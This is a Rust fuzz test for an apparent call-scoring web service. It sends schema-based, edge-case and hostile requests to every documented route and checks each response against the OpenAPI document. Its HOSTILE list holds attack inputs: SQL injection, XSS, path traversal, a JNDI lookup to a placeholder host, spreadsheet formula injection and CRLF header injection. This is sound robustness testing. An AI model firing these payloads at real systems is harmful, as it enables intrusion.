//! The document is a promise: every route of it is asked with what fits its schema, with what lies at its
//! edges, and with what is hostile; each answer must be one that the document names, in the shape that it
//! names, and none may hang or break.

use std::collections::BTreeMap;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use futures::StreamExt as _;
use proptest::strategy::{Strategy as _, ValueTree as _};
use proptest::test_runner::TestRunner;
use serde_json::{Map, Value, json};
use tower::ServiceExt as _;

use crate::house::{DIALOGUE, House, Plan, form_body};

/// Requests of each operation.
const CASES: usize = 15;
/// An answer that takes longer hangs.
const PATIENCE: Duration = Duration::from_secs(20);
/// Of an answer without an end so much is heard.
const MOMENT: Duration = Duration::from_millis(30);

/// Texts that have broken other services.
const HOSTILE: [&str; 24] = [
    "",
    " ",
    "\0",
    "\u{202e}\u{feff}",
    "'; drop table calls; --",
    "%' or 1=1 --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "=cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b",
    "NaN",
    "-1",
    "1e999",
    "18446744073709551616",
    "\"unclosed",
    "NEAR(a b, 5) OR form:*",
    "true",
    "null",
    "[]",
    "ﷺ🏴\u{200d}☠️é",
    "9999-12-31T23:59:60+99:99",
];

/// Chance, the same in every run.
struct Chance(TestRunner);

impl Chance {
    fn below(&mut self, end: usize) -> usize {
        (0..end.max(1)).new_tree(&mut self.0).unwrap().current()
    }

    fn one<'a, T>(&mut self, of: &'a [T]) -> &'a T {
        &of[self.below(of.len())]
    }

    fn word(&mut self) -> String {
        match self.below(4) {
            0 => "\\PC{0,40}".new_tree(&mut self.0).unwrap().current(),
            1 => "ж".repeat(self.below(3_000)),
            _ => (*self.one(&HOSTILE)).to_owned(),
        }
    }
}

/// How a value is made.
#[derive(Clone, Copy, PartialEq)]
enum Mood {
    /// As the schema has it.
    Good,
    /// At its edges and beyond.
    Edge,
    /// Anything.
    Hostile,
}

struct Maker<'a> {
    schemas: &'a Value,
    /// Names of things that are there.
    known: &'a [String],
    chance: Chance,
}

impl Maker<'_> {
    fn value(&mut self, schema: &Value, mood: Mood, left: u8) -> Value {
        let Some(left) = left.checked_sub(1) else { return Value::Null };
        if mood == Mood::Hostile && self.chance.below(3) == 0 {
            return match self.chance.below(6) {
                0 => Value::Null,
                1 => json!(-1),
                2 => json!(1e300),
                3 => json!([[[[]]]]),
                4 => json!({ "": {} }),
                _ => json!(self.chance.word()),
            };
        }
        if let Some(name) = schema["$ref"].as_str().and_then(|path| path.rsplit('/').next()) {
            return self.value(&self.schemas[name], mood, left);
        }
        for choices in ["oneOf", "anyOf"] {
            if let Some(choices) = schema[choices].as_array() {
                let choice = self.chance.one(choices).clone();
                return self.value(&choice, mood, left);
            }
        }
        if let Some(values) = schema["enum"].as_array() {
            return self.chance.one(values).clone();
        }
        let kinds: Vec<String> = match &schema["type"] {
            Value::String(one) => vec![one.clone()],
            Value::Array(several) => {
                several.iter().filter_map(|one| one.as_str().map(str::to_owned)).collect()
            }
            _ => vec!["string".to_owned()],
        };
        match self.chance.one(&kinds).as_str() {
            "object" => self.object(schema, mood, left),
            "array" => (0..self.chance.below(4)).map(|_| self.value(&schema["items"], mood, left)).collect(),
            "boolean" => json!(self.chance.below(2) == 0),
            "integer" => match mood {
                Mood::Good => json!(schema["minimum"].as_u64().unwrap_or(0) + self.chance.below(20) as u64),
                _ => self
                    .chance
                    .one(&[json!(0), json!(-1), json!(i64::MAX), json!(i64::MIN), json!(500), json!(501)])
                    .clone(),
            },
            "number" => match mood {
                Mood::Good => {
                    json!(
                        schema["minimum"].as_f64().unwrap_or(0.0) + *self.chance.one(&[0.0, 1.0, 40.0, 99.5])
                    )
                }
                _ => self
                    .chance
                    .one(&[json!(0.0), json!(-0.1), json!(100.0), json!(100.1), json!(1e308)])
                    .clone(),
            },
            "null" => Value::Null,
            _ => json!(self.text(schema, mood)),
        }
    }

    fn object(&mut self, schema: &Value, mood: Mood, left: u8) -> Value {
        let required: Vec<&str> =
            schema["required"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
        let mut made = Map::new();
        for (name, property) in schema["properties"].as_object().into_iter().flatten() {
            let needed =
                required.contains(&name.as_str()) && (mood == Mood::Good || self.chance.below(8) > 0);
            if needed || self.chance.below(2) == 0 {
                made.insert(name.clone(), self.value(property, mood, left));
            }
        }
        if mood == Mood::Hostile {
            made.insert(self.chance.word(), json!(self.chance.word()));
        }
        Value::Object(made)
    }

    fn text(&mut self, schema: &Value, mood: Mood) -> String {
        let format = schema["format"].as_str().unwrap_or_default();
        match (mood, format) {
            (Mood::Good, "uuid") => self.chance.one(self.known).clone(),
            (Mood::Good, "uri") => "http://127.0.0.1:1/none.mp3".to_owned(),
            (Mood::Good, _) => schema["example"].as_str().unwrap_or("текст").to_owned(),
            (Mood::Edge, _) if self.chance.below(2) == 0 => self.chance.one(self.known).clone(),
            (Mood::Edge | Mood::Hostile, _) => self.chance.word(),
        }
    }
}

/// One operation of the document.
struct Operation<'a> {
    method: Method,
    path: &'a str,
    said: &'a Value,
}

impl Operation<'_> {
    fn parameters(&self, place: &str) -> Vec<&Value> {
        let all = self.said["parameters"].as_array().into_iter().flatten();
        all.filter(|parameter| parameter["in"] == place).collect()
    }

    fn request(&self, maker: &mut Maker<'_>, mood: Mood) -> (Request<Body>, String) {
        let mut path = self.path.to_owned();
        for parameter in self.parameters("path") {
            let name = parameter["name"].as_str().unwrap();
            let value = match mood {
                Mood::Hostile => maker.chance.word(),
                _ => maker.chance.one(maker.known).clone(),
            };
            path =
                path.replace(&format!("{{{name}}}"), &escaped(if value.is_empty() { "x" } else { &value }));
        }
        let mut query = Vec::new();
        for parameter in self.parameters("query") {
            let needed = parameter["required"] == true && (mood == Mood::Good || maker.chance.below(6) > 0);
            if needed || maker.chance.below(6) == 0 {
                let value = match (&parameter["example"], mood) {
                    (Value::Null, _) | (_, Mood::Edge | Mood::Hostile) => {
                        maker.value(&parameter["schema"], mood, 6)
                    }
                    (example, Mood::Good) => example.clone(),
                };
                let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
                query.push(format!("{}={}", parameter["name"].as_str().unwrap(), escaped(&text)));
            }
        }
        if !query.is_empty() {
            path = format!("{path}?{}", query.join("&"));
        }
        let mut request = Request::builder().method(&self.method).uri(&path).header("host", "127.0.0.1:8000");
        for parameter in self.parameters("header") {
            let text =
                if mood == Mood::Good { "bytes=0-9".to_owned() } else { escaped(&maker.chance.word()) };
            request = request.header(parameter["name"].as_str().unwrap(), text);
        }
        let shown = format!("{} {path}", self.method);
        let contents = &self.said["requestBody"]["content"];
        if let Some(content) = contents.get("application/json") {
            let body = match (mood, maker.chance.below(8)) {
                (Mood::Good, 0) => content["example"].to_string(),
                (Mood::Hostile, 0) => maker.chance.word(),
                (Mood::Hostile, 1) => "[".repeat(100_000),
                _ => maker.value(&content["schema"], mood, 10).to_string(),
            };
            let shown = format!("{shown} {}", body.chars().take(300).collect::<String>());
            return (
                request.header("content-type", "application/json").body(Body::from(body)).unwrap(),
                shown,
            );
        }
        if contents.get("multipart/form-data").is_some() {
            let (mode, file) = (maker.chance.word(), maker.chance.word());
            let mode = if mood == Mood::Hostile { mode } else { "Manager+".to_owned() };
            return (form_body(request, &[("content_mode", &mode)], Some(("a.mp3", file.as_bytes()))), shown);
        }
        (request.body(Body::empty()).unwrap(), shown)
    }
}

fn escaped(text: &str) -> String {
    use std::fmt::Write as _;
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02X}");
        out
    })
}

/// Answers must hold what is promised and nothing besides: members that nobody documented are found.
fn closed(mut document: Value) -> Value {
    fn close(value: &mut Value) {
        match value {
            Value::Object(object) => {
                if object.contains_key("properties") && !object.contains_key("additionalProperties") {
                    object.insert("additionalProperties".to_owned(), json!(false));
                }
                object.values_mut().for_each(close);
            }
            Value::Array(list) => list.iter_mut().for_each(close),
            _ => {}
        }
    }
    // a problem may say more
    let problem = document["components"]["schemas"]["Problem"].clone();
    close(&mut document["components"]);
    document["components"]["schemas"]["Problem"] = problem;
    document
}

struct Answers {
    components: Value,
    validators: BTreeMap<String, jsonschema::Validator>,
}

impl Answers {
    /// What is wrong with an answer, if anything.
    fn judge(
        &mut self,
        operation: &Operation<'_>,
        status: StatusCode,
        kind: &str,
        body: &[u8],
    ) -> Option<String> {
        if status == StatusCode::INTERNAL_SERVER_ERROR {
            return Some("it broke".to_owned());
        }
        let promised = &operation.said["responses"][status.as_str()];
        if promised.is_null() {
            return Some(format!("{status} is not in the document"));
        }
        let Some(contents) = promised["content"].as_object() else {
            return (!body.is_empty()).then(|| format!("{status} has a body that is not in the document"));
        };
        let essence = kind.split(';').next().unwrap_or_default();
        if !contents.contains_key(essence) {
            let binary = contents.contains_key("application/octet-stream") && essence.starts_with("audio/");
            return (!binary).then(|| format!("{status} is {kind}, which is not in the document"));
        }
        if !essence.ends_with("json") {
            return None;
        }
        let Ok(value) = serde_json::from_slice::<Value>(body) else {
            return Some("the JSON is none".to_owned());
        };
        let key = format!("{} {} {status} {essence}", operation.method, operation.path);
        let validator = self.validators.entry(key).or_insert_with(|| {
            let schema = json!({ "components": self.components, "allOf": [contents[essence]["schema"]] });
            jsonschema::validator_for(&schema).unwrap()
        });
        let wrong =
            validator.iter_errors(&value).next().map(|error| format!("{error} at {}", error.instance_path()));
        wrong.map(|wrong| format!("{status}: {wrong}"))
    }
}

async fn house() -> (House, Vec<String>) {
    let house = House::planned(Plan { patience: Duration::from_secs(1), ..Plan::default() }).await;
    let one = house.call_of("m-42", "123", DIALOGUE).await;
    let stream = futures::stream::iter([Ok(bytes::Bytes::from(crate::outside::recording()))]);
    let rubric = house.app.rubric("sales-full").unwrap();
    let two = house.app.submit_recording(app::CallFacts::default(), stream, &rubric).await.unwrap().call;
    house.app.wait_for(two, Duration::from_secs(30)).await.unwrap();
    let wish = json!({ "url": "http://127.0.0.1:9/hook" });
    assert_eq!(house.post_json("/api/v1/webhooks", &wish).await.status, StatusCode::CREATED);
    assert_eq!(house.post_json("/api/v1/webhooks/1/test", &json!({})).await.status, StatusCode::ACCEPTED);
    let dispute = json!({ "reason": "нет" });
    assert_eq!(
        house.post_json(&format!("/api/v1/calls/{one}/disputes"), &dispute).await.status,
        StatusCode::CREATED
    );
    let known = vec![one.to_string(), two.to_string(), "1".to_owned(), "sales-full".to_owned()];
    (house, known)
}

#[tokio::test]
async fn every_answer_is_one_that_the_document_names() {
    let (house, known) = house().await;
    let document = house.get("/openapi.json").await.json();
    let schemas = document["components"]["schemas"].clone();
    let mut answers =
        Answers { components: closed(document.clone())["components"].clone(), validators: BTreeMap::new() };
    let mut maker = Maker { schemas: &schemas, known: &known, chance: Chance(TestRunner::deterministic()) };
    let (mut wrong, mut asked, mut fine) = (Vec::new(), 0, BTreeMap::<String, usize>::new());
    for (path, item) in document["paths"].as_object().unwrap() {
        for (method, said) in item.as_object().unwrap() {
            let method = Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
            let operation = Operation { method, path, said };
            for case in 0..CASES {
                let mood = [Mood::Good, Mood::Edge, Mood::Hostile][case % 3];
                // the call that everything else asks for must not go
                if path.ends_with("/erase") && mood == Mood::Good {
                    continue;
                }
                let (request, shown) = operation.request(&mut maker, mood);
                let Ok(answer) = tokio::time::timeout(PATIENCE, house.router().oneshot(request)).await else {
                    wrong.push(format!("{shown}: no answer"));
                    continue;
                };
                let (parts, body) = answer.unwrap().into_parts();
                let kind = parts
                    .headers
                    .get("content-type")
                    .map_or("", |kind| kind.to_str().unwrap_or("?"))
                    .to_owned();
                let body = read(body, kind.starts_with("text/event-stream")).await;
                asked += 1;
                if parts.status.is_success() {
                    *fine.entry(format!("{} {path}", operation.method)).or_default() += 1;
                }
                if let Some(why) = answers.judge(&operation, parts.status, &kind, &body) {
                    let said: String = String::from_utf8_lossy(&body).chars().take(300).collect();
                    wrong.push(format!("{shown}: {why}\n    {said}"));
                }
            }
        }
    }
    assert!(asked > 500, "{asked}");
    assert!(
        wrong.is_empty(),
        "{} of {asked}:\n{}",
        wrong.len(),
        wrong.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
    // a fuzz that is always refused tests nothing
    for path in [
        "GET /api/v1/calls",
        "GET /api/v1/calls/{id}",
        "GET /api/v1/stats",
        "GET /api/v1/search",
        "GET /api/v1/exports",
        "GET /api/v1/jobs/{id}",
    ] {
        assert!(fine.get(path).is_some_and(|count| *count > 0), "{path} never succeeded: {fine:?}");
    }
}

async fn read(body: Body, endless: bool) -> Vec<u8> {
    let mut stream = body.into_data_stream();
    let mut bytes = Vec::new();
    let wait = if endless { MOMENT } else { PATIENCE };
    while let Ok(Some(piece)) = tokio::time::timeout(wait, stream.next()).await {
        bytes.extend_from_slice(&piece.expect("the body does not break off"));
        if endless {
            break;
        }
    }
    bytes
}
